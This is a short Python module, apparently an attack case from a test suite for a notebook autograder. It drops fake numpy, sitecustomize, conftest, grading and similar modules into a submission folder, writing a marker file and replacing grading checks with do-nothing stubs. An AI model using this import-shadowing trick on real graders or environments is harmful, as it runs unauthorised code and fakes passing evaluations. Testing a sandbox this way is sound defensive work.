"""Brings its own numpy.py, nnlib.py, sitecustomize.py and ipykernel_launcher.py."""

from attacks.tools import fake


def attack(notebook, folder, school):
    fake(notebook)
    for name in ("numpy", "nnlib", "sitecustomize", "usercustomize", "ipykernel_launcher", "conftest", "grading"):
        (folder / f"{name}.py").write_text(
            "open('/tmp/eve-was-here', 'w')\nclass Check:\n    def __init__(s, *a): pass\n"
            "    def __getattr__(s, n): return lambda *a, **k: None\nHiddenCheck = Check\n"
        )
    (folder / "nnlib").mkdir()
    (folder / "nnlib" / "checks.py").write_text("class Check: pass\nHiddenCheck = Check")
